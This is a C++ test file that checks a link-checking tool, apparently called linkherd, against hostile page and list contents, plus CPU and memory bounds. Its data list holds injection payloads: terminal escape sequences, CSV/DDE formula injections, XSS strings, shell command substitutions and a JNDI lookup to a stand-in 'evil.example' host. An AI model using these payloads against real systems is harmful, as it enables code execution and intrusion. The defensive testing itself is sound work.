// Tests attacks by texts of pages and lists: on consumers of the output, and on the list readers themselves.
#include <algorithm>
#include <cstddef>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <doctest/doctest.h>
#include <fmt/format.h>
#include <fmt/ranges.h>

#include "tests/end_to_end/attacks/attack_family.h"
#include "tests/support/temp_dir.h"

using namespace linkherd::tests;

namespace {

const std::vector<std::string>& hostile_texts() {
  using namespace std::string_literals;
  static const std::vector<std::string> texts{
      "\x1b[2J\x1b]0;owned\x07"s,
      "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"s,
      "\x9b"
      "31m \xc2\x9b"
      "31m \xc2\x85 \x7f \b\b\b"s,
      "\xe2\x80\xae\xe2\x81\xa6 reversed \xe2\x80\x8b\xef\xbb\xbf"s,
      "line\r\nlinkherd: nothing broken"s,
      "::error file=x::owned"s,
      "=HYPERLINK(\"https://evil.example/\",\"click\")"s,
      "+cmd|' /C calc'!A0"s,
      "-2+3+cmd|' /C calc'!A0"s,
      "@SUM(1+1)*cmd|' /C calc'!A0"s,
      "a;=1+1;=cmd"s,
      "a\t=1+1"s,
      "\"\"\",=1+1"s,
      "\xef\xbc\x9d"
      "1+1"s,
      "<script>alert('owned')</script>"s,
      "</script><script>alert('owned')</script>"s,
      "</style><img src=x onerror=alert('owned')>"s,
      "<!--<script>"s,
      "]]><script>alert('owned')</script>"s,
      "\"><svg onload=alert('owned')>"s,
      "[click](javascript:alert('owned'))"s,
      "](https://evil.example/) ![x](https://evil.example/pixel)"s,
      "| a | b |\n|---|---|\n"s,
      "``` \n</details> <details open> @everyone #1 owner/repository#1"s,
      "\\u003cscript\\u003e"s,
      "a\0b\xff\xfe\xc0\xaf"s,
      "${jndi:ldap://evil.example/x} $(touch owned) `touch owned` %s%n"s,
  };
  return texts;
}

// Pages with these texts in every position that a report may quote, and a list of links to them.
struct HostileWeb {
  TempDir folder;
  SmallInternet internet;
  std::size_t inputs = 0;

  HostileWeb() {
    std::string list = "# Links\n\n";
    int number = 0;
    for (const std::string& text : hostile_texts()) {
      const std::string host = fmt::format("p{}.herd", number++);
      Page page =
          html_page(fmt::format("<title>{0}</title><meta name=author content=\"{0}\"><meta name=description "
                                "content=\"{0}\"><h1>{0}</h1><p>{0} and more words of the page.",
                                text));
      page.headers.emplace_back("ETag", "\"" + text.substr(0, text.find_first_of("\r\n")) + "\"");
      internet.host(host).page("/", page);
      internet.host(host).page("/gone", status_page(404, {{"X-Reason", text.substr(0, text.find_first_of("\r\n"))}}));
      internet.host(host).page("/moved", redirect_page(301, "/#" + text.substr(0, text.find_first_of("\r\n"))));
      std::string line = text;
      std::ranges::replace(line, '\n', ' ');
      list += fmt::format(
          "- [{0}](https://{1}/) {0}\n- [{0}](https://{1}/gone)\n- [x](https://{1}/moved \"{0}\")\n"
          "- <https://{1}/?q={0}>\n## {0}\n",
          line, host);
      inputs += 5;
    }
    folder.write("hostile.md", list);
    folder.write("name\x1b[2J\n::error::.md", "[a](https://p0.herd/gone)\n");
  }
};

bool has_terminal_control(std::string_view text) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto c = static_cast<unsigned char>(text[i]);
    if ((c < 0x20 && c != '\n' && c != '\t' && c != '\r') || c == 0x7F) return true;
    if (c == '\r' && (i + 1 == text.size() || text[i + 1] != '\n')) return true;
    if (c == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) < 0xA0) return true;  // C1
  }
  return false;
}

// Returns the cells of a CSV text (RFC 4180) as read by a program with this separator. A quote is special only at the
// beginning of a cell.
std::vector<std::string> cells_of(std::string_view text, char separator) {
  std::vector<std::string> cells(1);
  bool is_quoted = false;
  bool begins = true;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (is_quoted) {
      const bool is_doubled = c == '"' && i + 1 < text.size() && text[i + 1] == '"';
      if (is_doubled) ++i;
      if (c == '"' && !is_doubled) {
        is_quoted = false;
      } else {
        cells.back() += c;
      }
    } else if (c == '"' && begins) {
      is_quoted = true;
    } else if (c == separator || c == '\n' || c == '\r') {
      cells.emplace_back();
      begins = true;
      continue;
    } else {
      cells.back() += c;
    }
    begins = false;
  }
  return cells;
}

// Returns true if Markdown or HTML reads this part as markup. A backslash before it makes it plain text.
bool has_markup(std::string_view text, std::string_view part) {
  for (std::size_t at = text.find(part); at != std::string_view::npos; at = text.find(part, at + 1)) {
    std::size_t backslashes = 0;
    while (backslashes < at && text[at - backslashes - 1] == '\\') ++backslashes;
    if (backslashes % 2 == 0) return true;
  }
  return false;
}

bool starts_formula(const std::string& cell) {
  const std::size_t at = cell.find_first_not_of(" \t");
  return at != std::string::npos && std::string_view("=+-@").find(cell[at]) != std::string_view::npos &&
         cell.find_first_not_of("+-.0123456789", at) != std::string::npos;  // numbers are harmless
}

}  // namespace

TEST_CASE("attacks: hostile texts put no control character into output") {
  HostileWeb web;
  const std::vector<std::string> filling =
      check_arguments(web.internet, {"--store", "store", "--format", "jsonl", "--all", "."});
  AttackFamily terminal("terminal escapes");
  AttackFamily formulas("CSV formulas");
  AttackFamily markup("HTML and Markdown in reports");
  const ProgramResult checked = run_linkherd(web.folder.path(), filling);
  terminal.note(checked, web.inputs);
  const auto output_of = [&web](AttackFamily& family, std::vector<std::string> words) {
    words.insert(words.end(), {"--store", "store"});
    const ProgramResult result = family.run(web.folder.path(), words, web.inputs);
    family.expect(!has_terminal_control(result.out), fmt::format("{}: control characters", fmt::join(words, " ")));
    family.expect(!has_terminal_control(result.err), fmt::format("{}: control characters", fmt::join(words, " ")));
    return result.out;
  };
  for (const char* const format : {"text", "jsonl", "json", "markdown", "junit", "sarif", "github", "issue"})
    output_of(terminal, {"report", "--all", "--format", format});
  for (const std::vector<std::string>& words : {std::vector<std::string>{"history", "https://p0.herd/"},
                                                {"history", "https://p0.herd/"},
                                                {"runs"},
                                                {"store", "verify"}})
    output_of(terminal, words);
  const ProgramResult links = terminal.run(web.folder.path(), {"links", "."}, web.inputs);
  terminal.expect(!has_terminal_control(links.out + links.err), "links: control characters");

  for (const std::vector<std::string>& words :
       {std::vector<std::string>{"report", "--all", "--format", "csv"}, {"export", "--format", "csv"}}) {
    const std::string csv = output_of(formulas, words);
    for (const char separator : {',', ';', '\t'}) {
      for (const std::string& cell : cells_of(csv, separator))
        formulas.expect(!starts_formula(cell),
                        fmt::format("{} separated by {}: {}", fmt::join(words, " "), separator, cell));
    }
  }

  for (const std::vector<std::string>& words : {std::vector<std::string>{"report", "--all", "--format", "html"},
                                                {"report", "--all", "--format", "markdown"},
                                                {"report", "--all", "--format", "issue"},
                                                {"export", "--format", "markdown"}}) {
    const std::string text = output_of(markup, words);
    const bool is_html = words.back() == "html";
    for (const char* const part : {"<script>alert", "<img src=x", "<svg onload", "<!--<script>", "](javascript:"}) {
      const bool is_active = is_html ? holds(text, part) && part[0] == '<' : has_markup(text, part);
      markup.expect(!is_active, fmt::format("{}: {}", fmt::join(words, " "), part));
    }
  }
}

TEST_CASE("attacks: quadratic inputs take bounded CPU time") {
  AttackFamily family("quadratic inputs");
  const TempDir folder;
  const std::vector<std::pair<const char*, std::string>> shapes{
      {"md", "\r"},
      {"md", "- [a](b)\r"},
      {"md", "["},
      {"md", "[a]("},
      {"md", "![["},
      {"md", "*a_"},
      {"md", "`"},
      {"md", "<a "},
      {"md", "> "},
      {"md", "- "},
      {"md", "|a"},
      {"md", "[^a]: "},
      {"md", "<!--"},
      {"md", "&#"},
      {"md", "[a][b]\n"},
      {"md", "{% a "},
      {"md", "---\na:\n"},
      {"html", "<a href="},
      {"html", "<!--"},
      {"html", "<div>"},
      {"html", "<table><td>"},
      {"html", "</p>"},
      {"html", "<a href=x>"},
      {"html", "&amp"},
      {"html", "<b><i>"},
      {"html", "<script>"},
      {"html", "<svg><a>"},
      {"txt", "http://a."},
      {"txt", "\r"},
      {"txt", "www."},
      {"txt", "a@"},
      {"rst", "`a <"},
      {"rst", "|a|_\r"},
      {"rst", ".. _a:\n"},
      {"rst", "\r"},
      {"adoc", "link:["},
      {"adoc", "xref:a\r"},
      {"adoc", "include::"},
      {"adoc", "\r"},
      {"org", "[[a]["},
      {"org", "\r"},
      {"org", "* a\r"},
      {"bib", "@a{b,"},
      {"bib", "\r"},
      {"ris", "UR  - \r"},
      {"json", "["},
      {"json", "{\"a\":"},
      {"json", "\"http:"},
      {"yaml", "- "},
      {"yaml", "a: &a *a\n"},
      {"yaml", "? "},
      {"toml", "[a."},
      {"toml", "a='''"},
      {"xml", "<a>"},
      {"xml", "<![CDATA["},
      {"csv", "\""},
      {"csv", "a,\r"},
      {"ipynb", "{\"cells\":["},
      {"opml", "<outline>"},
  };
  constexpr std::size_t bytes = std::size_t{2} << 20;
  for (const auto& [ending, part] : shapes) {
    CAPTURE(ending);
    CAPTURE(part);
    std::string text;
    text.reserve(bytes + part.size());
    while (text.size() < bytes) text += part;
    const std::string name = fmt::format("shape.{}", ending);
    folder.write(name, text);
    const ProgramResult result = family.run(folder.path(), {"links", "-q", name});
    family.expect(result.cpu < std::chrono::seconds(20),
                  fmt::format("2 MiB of {} {}: {} ms of CPU", ending, part, result.cpu.count()));
  }
}

// All targets differ, and none exists.
TEST_CASE("attacks: link-dense inputs take bounded memory") {
  AttackFamily family("link-dense inputs");
  const TempDir folder;
  struct Shape {
    const char* ending;
    const char* before;
    const char* after;
    std::size_t max_mib = 500;
  };
  // The style sheet has a million links, 30 % more than any other shape, and takes 485 to 504 MiB.
  const std::vector<Shape> shapes{{"html", "<a href=", ">"},     {"html", "<img src=", ">"},
                                  {"html", "<a ping=\"", "\">"}, {"css", "url(", ")", 560},
                                  {"md", "[](", ")\n"},          {"html", "<style>p{a:url(", ")}</style>"}};
  constexpr std::size_t bytes = 10'000'000;
  for (const Shape& shape : shapes) {
    CAPTURE(shape.before);
    std::string text;
    for (std::size_t number = 0; text.size() < bytes; ++number)
      text += fmt::format("{}{:x}{}", shape.before, number, shape.after);
    const std::string name = fmt::format("dense.{}", shape.ending);
    folder.write(name, text);
    const ProgramResult result = family.run(folder.path(), {"check", "-q", "--offline", "-o", "report", name});
#ifndef LINKHERD_SANITIZED
    family.expect(result.max_memory_kib < shape.max_mib << 10U,
                  fmt::format("10 MB of {}: {} KiB of memory", shape.before, result.max_memory_kib));
#else
    static_cast<void>(result);
#endif
  }
}
